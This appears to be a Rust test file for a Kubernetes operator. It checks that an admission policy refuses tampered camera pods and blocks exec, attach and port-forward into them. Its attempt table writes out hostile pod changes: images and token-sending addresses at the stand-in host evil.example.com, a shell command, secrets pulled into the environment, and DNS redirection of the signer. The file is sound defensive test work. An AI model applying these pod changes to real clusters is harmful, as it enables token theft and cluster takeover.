//! What mon makes in a tenant's namespace is relays and archivers of ours and nothing else, whoever has its account (rules S18, S21, S23), and nobody comes
//! by their pods in another way.

use moorline_testkit::cluster::SOON;
use serde_json::{Value, json};

use crate::support::{Moorline, SYSTEM, Tenant, kubectl_as, refused};

/// A pod as mon makes it, for the camera `yard`.
async fn pod(moorline: &Moorline, tenant: &Tenant<'_>, role: &str) -> Value {
    let class = moorline
        .cluster()
        .json(&["get", "cameraclass", "standard", "-o", "json"])
        .await
        .unwrap();
    let camera = tenant.space.get(&["camera", "yard"]).await.unwrap();
    let token = |name: &str, audience: &str| json!({"name": name, "projected": {"sources": [{"serviceAccountToken": {"audience": audience, "expirationSeconds": 3600, "path": "token"}}]}});
    let mut volumes = vec![
        token("gateway-token", "moorline-gateway"),
        json!({"name": "config", "configMap": {"name": "moorline"}}),
        json!({"name": "scratch", "emptyDir": {}}),
    ];
    volumes.push(if role == "relay" {
        json!({"name": "passwords", "secret": {"secretName": "yard-rtsp", "optional": true}})
    } else {
        token("signer-token", "moorline-signer")
    });
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {
            "name": format!("tried-{role}"), "namespace": tenant.space.name(),
            "labels": {"moorline.dev/role": role, "moorline.dev/camera": "yard"},
            "ownerReferences": [{"apiVersion": "moorline.dev/v1alpha1", "kind": "Camera", "name": "yard", "uid": camera["metadata"]["uid"], "controller": true}],
        },
        "spec": {
            "serviceAccountName": format!("moorline-{role}"), "automountServiceAccountToken": false,
            "priorityClassName": class["spec"]["priorityClass"],
            "securityContext": {"runAsNonRoot": true, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
            "containers": [{
                "name": role, "image": class["spec"]["image"],
                "command": ["/usr/bin/moorline-workload"],
                "args": [if role == "relay" { "proxy" } else { "archive" }, "--camera", format!("{}/yard", tenant.name)],
                "env": [
                    {"name": "MOORLINE_WORKLOAD__GATEWAY", "value": "moorline-mon.moorline-system.svc:8443"},
                    {"name": "MOORLINE_WORKLOAD__POD_UID", "valueFrom": {"fieldRef": {"fieldPath": "metadata.uid"}}},
                ],
                "resources": {"limits": {"memory": "48Mi"}, "requests": {"memory": "48Mi", "cpu": "10m"}},
                "startupProbe": {"httpGet": {"path": "/healthz", "port": 9464}, "periodSeconds": 1},
                "readinessProbe": {"httpGet": {"path": "/readyz", "port": 9464}, "periodSeconds": 5},
                "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
            }],
            "volumes": volumes,
        },
    })
}

/// A pod that mon tries, changed at one place.
struct Attempt {
    what: &'static str,
    role: &'static str,
    change: fn(&mut Value),
    why: &'static str,
}

const ATTEMPTS: &[Attempt] = &[
    Attempt {
        what: "an image of its own",
        role: "archiver",
        change: |pod| pod["spec"]["containers"][0]["image"] = "evil.example.com/moorline:1".into(),
        why: "the policy knows",
    },
    Attempt {
        what: "a shell",
        role: "relay",
        change: |pod| pod["spec"]["containers"][0]["command"] = json!(["/bin/sh"]),
        why: "proxy --camera",
    },
    Attempt {
        what: "the image's other program",
        role: "archiver",
        change: |pod| {
            let container = pod["spec"]["containers"][0].as_object_mut();
            container.unwrap().remove("command");
        },
        why: "proxy --camera",
    },
    Attempt {
        what: "a second container",
        role: "relay",
        change: |pod| {
            let mut more = pod["spec"]["containers"][0].clone();
            more["name"] = "more".into();
            // Of a container that runs to its end, Kubernetes itself refuses probes.
            let fields = more.as_object_mut().unwrap();
            fields.retain(|field, _| !field.ends_with("Probe"));
            pod["spec"]["initContainers"] = json!([more]);
        },
        why: "moorline-workloads",
    },
    Attempt {
        what: "a container beside",
        role: "archiver",
        change: |pod| {
            let mut beside = pod["spec"]["containers"][0].clone();
            beside["name"] = "beside".into();
            let containers = pod["spec"]["containers"].as_array_mut();
            containers.unwrap().push(beside);
        },
        why: "the policy knows",
    },
    Attempt {
        what: "a token for the API server",
        role: "relay",
        change: |pod| pod["spec"]["automountServiceAccountToken"] = true.into(),
        why: "without its own token",
    },
    Attempt {
        what: "a role of its own",
        role: "relay",
        change: |pod| pod["metadata"]["labels"]["moorline.dev/role"] = "operator".into(),
        why: "has a role",
    },
    Attempt {
        what: "a camera's password in an archiver",
        role: "archiver",
        change: |pod| {
            let secret = json!({"name": "x", "secret": {"secretName": "yard-rtsp"}});
            pod["spec"]["volumes"].as_array_mut().unwrap().push(secret);
        },
        why: "its own camera's password",
    },
    Attempt {
        what: "another camera's password",
        role: "relay",
        change: |pod| pod["spec"]["volumes"][3]["secret"]["secretName"] = "gate-rtsp".into(),
        why: "its own camera's password",
    },
    Attempt {
        what: "a password by the environment",
        role: "relay",
        change: |pod| {
            let entry = json!({"name": "X", "valueFrom": {"secretKeyRef": {"name": "gate-rtsp", "key": "password"}}});
            pod["spec"]["containers"][0]["env"]
                .as_array_mut()
                .unwrap()
                .push(entry);
        },
        why: "the environment",
    },
    Attempt {
        what: "a whole Secret by the environment",
        role: "relay",
        change: |pod| {
            let all = json!([{"secretRef": {"name": "gate-rtsp"}}]);
            pod["spec"]["containers"][0]["envFrom"] = all;
        },
        why: "proxy --camera",
    },
    Attempt {
        what: "a relay's token sent to a server of its choice",
        role: "relay",
        change: |pod| {
            pod["spec"]["containers"][0]["env"][0]["value"] = "evil.example.com:8443".into();
        },
        why: "the environment",
    },
    Attempt {
        what: "the signer's token sent to mon",
        role: "archiver",
        change: |pod| {
            let entry = json!({"name": "MOORLINE_WORKLOAD__SIGNER", "value": "moorline-mon.moorline-system.svc:8443"});
            pod["spec"]["containers"][0]["env"]
                .as_array_mut()
                .unwrap()
                .push(entry);
        },
        why: "the environment",
    },
    Attempt {
        what: "a signer's token in a relay",
        role: "relay",
        change: |pod| {
            let token = json!({"name": "x", "projected": {"sources": [{"serviceAccountToken": {"audience": "moorline-signer", "path": "token"}}]}});
            pod["spec"]["volumes"].as_array_mut().unwrap().push(token);
        },
        why: "its role's tokens",
    },
    Attempt {
        what: "a volume that outlives it",
        role: "archiver",
        change: |pod| {
            let claim = json!({"name": "x", "persistentVolumeClaim": {"claimName": "x"}});
            pod["spec"]["volumes"].as_array_mut().unwrap().push(claim);
        },
        why: "mounts scratch, spool",
    },
    Attempt {
        what: "another ConfigMap in the place of what the installation says",
        role: "archiver",
        change: |pod| pod["spec"]["volumes"][1]["configMap"]["name"] = "kube-root-ca.crt".into(),
        why: "the ConfigMap moorline",
    },
    Attempt {
        what: "the archiver's account for a relay",
        role: "relay",
        change: |pod| pod["spec"]["serviceAccountName"] = "moorline-archiver".into(),
        why: "that role's account",
    },
    Attempt {
        what: "a hook that runs our program with other words",
        role: "archiver",
        change: |pod| {
            let command = json!({"exec": {"command": ["moorline-workload", "archive", "--signer", "evil.example.com:8444"]}});
            pod["spec"]["containers"][0]["lifecycle"] = json!({"postStart": command});
        },
        why: "no hooks",
    },
    Attempt {
        what: "a probe that does",
        role: "archiver",
        change: |pod| {
            let command =
                json!({"exec": {"command": ["moorline-workload", "proxy"]}, "periodSeconds": 10});
            pod["spec"]["containers"][0]["livenessProbe"] = command;
        },
        why: "no probes but by HTTP",
    },
    Attempt {
        what: "a probe of another kind",
        role: "relay",
        change: |pod| {
            // Another host is refused by PodSecurity already, where it is new enough.
            let probe = json!({"tcpSocket": {"port": 80}});
            pod["spec"]["containers"][0]["readinessProbe"] = probe;
        },
        why: "no probes but by HTTP",
    },
    Attempt {
        what: "a terminal",
        role: "relay",
        change: |pod| pod["spec"]["containers"][0]["stdin"] = true.into(),
        why: "no terminal",
    },
    Attempt {
        what: "a node of its choice",
        role: "relay",
        change: |pod| pod["spec"]["nodeName"] = "n1".into(),
        why: "names no node",
    },
    Attempt {
        what: "a pod that puts others out",
        role: "relay",
        change: |pod| pod["spec"]["priorityClassName"] = "system-cluster-critical".into(),
        why: "the policy knows moorline-workloads",
    },
    Attempt {
        what: "another address for the signer's name",
        role: "archiver",
        change: |pod| {
            let alias =
                json!({"ip": "10.0.0.1", "hostnames": ["moorline-signer.moorline-system.svc"]});
            pod["spec"]["hostAliases"] = json!([alias]);
        },
        why: "asks the cluster for names",
    },
    Attempt {
        what: "names of another server",
        role: "archiver",
        change: |pod| {
            pod["spec"]["dnsPolicy"] = "None".into();
            pod["spec"]["dnsConfig"] = json!({"nameservers": ["10.0.0.1"]});
        },
        why: "asks the cluster for names",
    },
    Attempt {
        what: "a pod of nobody's",
        role: "relay",
        change: |pod| pod["metadata"]["ownerReferences"] = json!([]),
        why: "belongs to the one Camera",
    },
    Attempt {
        what: "a pod of another Camera than it says",
        role: "archiver",
        change: |pod| pod["metadata"]["ownerReferences"][0]["name"] = "gate".into(),
        why: "belongs to the one Camera",
    },
    Attempt {
        what: "an owner beside its Camera",
        role: "relay",
        change: |pod| {
            let other =
                json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "moorline", "uid": "x"});
            pod["metadata"]["ownerReferences"]
                .as_array_mut()
                .unwrap()
                .push(other);
        },
        why: "belongs to the one Camera",
    },
];

/// S18, S21, S23: mon, which the Internet reaches, runs relays and archivers of ours and nothing else.
#[tokio::test(flavor = "multi_thread")]
async fn mon_runs_nothing_but_relays_and_archivers() {
    let Some(moorline) = Moorline::anywhere().await else {
        return;
    };
    let tenant = moorline.tenant("workloads").await;
    let camera = json!({"apiVersion": "moorline.dev/v1alpha1", "kind": "Camera", "metadata": {"name": "yard"}, "spec": {}});
    tenant.space.apply(&camera).await.unwrap();
    let mon = format!("{SYSTEM}:moorline-mon");
    let create = async |pod: &Value, account: &str| {
        let place = moorline_testkit::temp_dir().unwrap();
        let path = place.path().join("pod.json");
        std::fs::write(&path, pod.to_string()).unwrap();
        let path = path.display().to_string();
        kubectl_as(
            &moorline,
            account,
            &["create", "--dry-run=server", "-f", &path],
        )
        .await
    };
    for role in ["relay", "archiver"] {
        let answer = create(&pod(&moorline, &tenant, role).await, &mon).await;
        assert_eq!(answer, Ok(()), "{role}");
    }
    for attempt in ATTEMPTS {
        let mut pod = pod(&moorline, &tenant, attempt.role).await;
        (attempt.change)(&mut pod);
        refused(attempt.what, create(&pod, &mon).await, attempt.why);
    }
}

/// S21: workloads that somebody makes there are no way around, and neither are a pod's other doors.
#[tokio::test(flavor = "multi_thread")]
async fn controllers_and_operators_make_and_enter_no_pods_of_cameras() {
    let Some(moorline) = Moorline::anywhere().await else {
        return;
    };
    let tenant = moorline.tenant("doors").await;
    let own = tenant.space.name();
    let camera = json!({"apiVersion": "moorline.dev/v1alpha1", "kind": "Camera", "metadata": {"name": "yard"}, "spec": {}});
    tenant.space.apply(&camera).await.unwrap();
    let template = pod(&moorline, &tenant, "relay").await;
    let deployment = json!({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "around"},
        "spec": {
            "replicas": 1, "selector": {"matchLabels": {"moorline.dev/camera": "yard"}},
            "template": {"metadata": {"labels": template["metadata"]["labels"]}, "spec": template["spec"]},
        },
    });
    tenant.space.apply(&deployment).await.unwrap();
    let sets = ["-n", own, "replicasets", "-l", "moorline.dev/camera=yard"];
    let refused = |sets: &Value| {
        let conditions = sets["items"][0]["status"]["conditions"].as_array()?;
        let message =
            |condition: &Value| condition["message"].as_str().unwrap_or_default().to_owned();
        conditions
            .iter()
            .map(message)
            .any(|message| message.contains("nobody but moorline-mon"))
            .then_some(())
    };
    tenant
        .space
        .cluster()
        .until(&sets, "the ReplicaSet gets no pod", SOON, refused)
        .await
        .unwrap();
    // One that runs: kubectl asks for nothing of a pod that does not.
    let words = ["--data", "/scratch/data", "serve", "--public-host", "pod"];
    let plain = tenant.space.moorline_pod("plain", &words);
    tenant.space.apply(&plain).await.unwrap();
    tenant.space.until_ready("plain").await.unwrap();
    for words in [
        &["label", "pod", "plain", "moorline.dev/role=relay"][..],
        &["exec", "plain", "--", "moorline", "--version"],
        &["attach", "plain"],
        &["port-forward", "plain", "0:9464"],
    ] {
        let words = [&["-n", own], words].concat();
        let output = moorline.cluster().try_kubectl(&words).await.unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(
            said.contains("nobody but moorline-mon"),
            "{words:?}: {said}"
        );
    }
    let raw = format!("/api/v1/namespaces/{own}/pods/plain/proxy/");
    let output = moorline
        .cluster()
        .try_kubectl(&["get", "--raw", &raw])
        .await
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("nobody but moorline-mon"), "{said}");
}
